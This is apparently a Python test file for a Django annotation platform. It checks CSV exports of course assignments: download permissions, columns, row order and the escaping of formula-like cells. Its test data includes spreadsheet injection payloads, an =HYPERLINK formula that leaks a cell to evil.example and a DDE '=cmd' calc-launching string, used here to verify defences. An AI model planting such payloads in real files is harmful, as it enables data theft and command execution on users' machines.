"""CSV exports of an assignment: what a spreadsheet gets, who may download them, and that no
cell is run as a formula."""

import csv
import io
from datetime import datetime, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from annotations.models import Annotation
from annotations.services import TextSelector, annotation_create, annotation_delete
from courses.exports import csv_cell
from courses.services import course_create, course_join
from edition.models import Paragraph
from tests.courses.conftest import make_instructor
from tests.factories import make_user

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Klick")',
    "+49 30 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab voran",
    "\rWagenrücklauf voran",
]
GERMAN = 'Größe und Maß: „operative Bilder“, "zitiert", Straße;\nzweite Zeile, ÄÖÜ äöü ß'


def students_url(assignment) -> str:
    return f"/courses/{assignment.course.slug}/assignments/{assignment.pk}/students.csv"


def annotations_url(assignment) -> str:
    return f"/courses/{assignment.course.slug}/assignments/{assignment.pk}/annotations.csv"


def parse(response) -> list[dict]:
    """The download as a spreadsheet reads it: bytes, a byte order mark, then CSV."""
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def paragraph(public_id):
    return Paragraph.objects.get(edition__slug="test-interview", public_id=public_id)


def note(user, course, public_id="p2", *, body="Notiz.", tags=(), selector=None, **changes):
    fields = {"visibility": "group", "group": course.group} | changes
    return annotation_create(
        user=user,
        paragraph=paragraph(public_id),
        selector=selector,
        motivation="commenting",
        body=body,
        tags=list(tags),
        **fields,
    )


def reply(user, parent, body="Ja."):
    return annotation_create(user=user, parent=parent, motivation="replying", body=body)


# Who may download


@pytest.mark.parametrize("url", [students_url, annotations_url])
def test_anonymous_visitors_are_sent_to_log_in(client, assignment, url):
    response = client.get(url(assignment))
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


@pytest.mark.parametrize("url", [students_url, annotations_url])
@pytest.mark.parametrize("who", ["outsider", "other_instructor", "student"])
def test_only_the_courses_instructors_download(client, assignment, student, request, url, who):
    note(student, assignment.course, body="Geheimnis der Gruppe.")
    if who == "other_instructor":
        user = make_instructor("ola")
        course_create(user=user, title="Anderer Kurs")
    else:
        user = request.getfixturevalue(who)
    client.force_login(user)
    response = client.get(url(assignment))
    assert response.status_code == (403 if who == "student" else 404)
    assert (
        "Geheimnis" not in response.content.decode() and "Stu Dent" not in response.content.decode()
    )


def test_progress_page_links_to_both_downloads(client, assignment, instructor):
    client.force_login(instructor)
    html = client.get(
        f"/courses/{assignment.course.slug}/assignments/{assignment.pk}/progress/"
    ).content.decode()
    assert f'href="{students_url(assignment)}" download' in html
    assert f'href="{annotations_url(assignment)}" download' in html


# A row per student


def test_students_csv_is_a_utf8_attachment_named_for_course_and_assignment(
    client, assignment, instructor, student
):
    client.force_login(instructor)
    response = client.get(students_url(assignment))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{assignment.course.slug}-{assignment.pk}-students.csv"'
    )


def test_students_csv_has_a_row_per_student_with_counts_status_and_activity(
    client, assignment, course, instructor, student
):
    classmate = make_user("juergen", display_name="Jürgen Groß")
    course_join(user=classmate, code=course.join_code)
    first = note(classmate, course, "p2")
    Annotation.objects.filter(pk=first.pk).update(created=timezone.now() - timedelta(hours=2))
    note(classmate, course, "p3")
    last = reply(classmate, note(instructor, course, "p3"))
    note(classmate, course, "p4")  # outside the range: not counted, not activity
    client.force_login(instructor)
    rows = parse(client.get(students_url(assignment)))
    assert [row["username"] for row in rows] == ["juergen", "stu"]
    juergen, stu = rows
    assert juergen | {"first activity": "", "last activity": ""} == {
        "username": "juergen",
        "display name": "Jürgen Groß",
        "annotations in range": "2",
        "replies in range": "1",
        "expected annotations": "2",
        "expected replies": "1",
        "after the due date": "0",
        "status": "done",
        "first activity": "",
        "last activity": "",
    }
    first.refresh_from_db()
    assert datetime.fromisoformat(juergen["first activity"]) == first.created.replace(microsecond=0)
    assert datetime.fromisoformat(juergen["last activity"]) == last.modified.replace(microsecond=0)
    assert juergen["first activity"].endswith(("+01:00", "+02:00"))  # Europe/Berlin
    assert stu["display name"] == "Stu Dent" and stu["status"] == "not started"
    assert stu["annotations in range"] == "0" and stu["first activity"] == ""


def test_students_csv_neutralises_names_that_look_like_formulas(
    client, assignment, course, instructor
):
    for number, name in enumerate(HOSTILE):
        course_join(user=make_user(f"h{number}", display_name=name), code=course.join_code)
    client.force_login(instructor)
    rows = parse(client.get(students_url(assignment)))
    names = [row["display name"] for row in rows if row["username"].startswith("h")]
    # A display name is stored trimmed, so the tab and carriage return may be gone.
    assert all(name.startswith("'") for name in names[:4])
    assert names[:4] == ["'" + name for name in HOSTILE[:4]]


# A row per annotation or reply


def test_annotations_csv_has_every_field_in_reading_order(client, assignment, course, instructor):
    student = make_user("juergen", display_name="Jürgen Groß")
    course_join(user=student, code=course.join_code)
    text = paragraph("p3").text
    start = text.index("Größe und Maß")
    quoted = note(
        student,
        course,
        "p3",
        body=GERMAN,
        tags=["Maß", "Begriff", "-These"],
        selector=TextSelector(start, start + 13, "Größe und Maß"),
    )
    whole = note(student, course, "p3", body="Der ganze Absatz.", visibility="public", group=None)
    answer = reply(instructor, quoted, body="**Gut** beobachtet.")
    early = note(student, course, "p2", body="Vorne.")
    client.force_login(instructor)
    response = client.get(annotations_url(assignment))
    assert response["Content-Disposition"] == (
        f'attachment; filename="{course.slug}-{assignment.pk}-annotations.csv"'
    )
    rows = parse(response)
    assert list(rows[0]) == [
        "author",
        "author name",
        "paragraph",
        "quote",
        "body",
        "tags",
        "motivation",
        "visibility",
        "created",
        "modified",
        "permalink",
        "reply to",
        "hidden by an instructor",
    ]
    base = "http://testserver/annotations/"
    assert [row["permalink"] for row in rows] == [
        f"{base}{early.uuid}/",
        f"{base}{whole.uuid}/",  # the whole paragraph before a passage in it
        f"{base}{quoted.uuid}/",
        f"{base}{answer.uuid}/",  # a reply with its thread
    ]
    row = rows[2]
    assert row["author"] == "juergen" and row["author name"] == "Jürgen Groß"
    assert row["paragraph"] == "p3" and row["quote"] == "Größe und Maß"
    assert row["body"] == GERMAN  # Markdown source, quotes and newline intact
    assert row["tags"] == "'-These; Begriff; Maß"
    assert row["motivation"] == "commenting" and row["visibility"] == "group"
    assert datetime.fromisoformat(row["created"]) == quoted.created.replace(microsecond=0)
    assert rows[1]["visibility"] == "public" and rows[1]["quote"] == ""
    assert rows[3] | {"created": "", "modified": ""} == {
        "author": "ines",
        "author name": "ines",
        "paragraph": "p3",
        "quote": "",
        "body": "**Gut** beobachtet.",
        "tags": "",
        "motivation": "replying",
        "visibility": "group",
        "created": "",
        "modified": "",
        "permalink": f"{base}{answer.uuid}/",
        "reply to": f"{base}{quoted.uuid}/",
        "hidden by an instructor": "",
    }


def test_annotations_csv_counts_what_the_progress_page_counts(
    client, assignment, course, instructor, student, edition
):
    counted = note(student, course, "p2")
    note(student, course, "p4")  # outside the range
    note(student, course, "p2", visibility="private", group=None)
    annotation_delete(user=student, annotation=note(student, course, "p2"))
    too_early = note(student, course, "p3")
    Annotation.objects.filter(pk=too_early.pk).update(created=assignment.opens_at - timedelta(1))
    outsider = make_user("otto")
    note(outsider, course, "p2", visibility="public", group=None)  # not a member
    client.force_login(instructor)
    rows = parse(client.get(annotations_url(assignment)))
    assert [row["permalink"] for row in rows] == [f"http://testserver/annotations/{counted.uuid}/"]
    progress = parse(client.get(students_url(assignment)))
    assert progress[0]["annotations in range"] == str(len(rows))


def test_annotations_csv_neutralises_formulas_in_every_text_cell(
    client, assignment, course, instructor
):
    author = make_user("hacker", display_name=HOSTILE[0])
    course_join(user=author, code=course.join_code)
    for body in HOSTILE:
        note(author, course, "p2", body=body, tags=["=cmd|' /C calc'!A0"])
    client.force_login(instructor)
    rows = parse(client.get(annotations_url(assignment)))
    assert [row["body"] for row in rows] == ["'" + body for body in HOSTILE]
    assert {row["tags"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert {row["author name"] for row in rows} == {"'" + HOSTILE[0]}


def test_annotations_csv_queries_do_not_grow_with_rows(
    client, assignment, course, instructor, student, django_assert_max_num_queries
):
    def write(count):
        for number in range(count):
            reply(instructor, note(student, course, "p2", tags=[f"t{number}", "Bild"]))

    client.force_login(instructor)
    write(3)
    with CaptureQueriesContext(connection) as three:
        assert len(parse(client.get(annotations_url(assignment)))) == 6
    write(7)
    with django_assert_max_num_queries(len(three.captured_queries)):
        assert len(parse(client.get(annotations_url(assignment)))) == 20


# The cell rule


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("Größe", "Größe"),
        ("", ""),
        (None, ""),
        (3, 3),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell
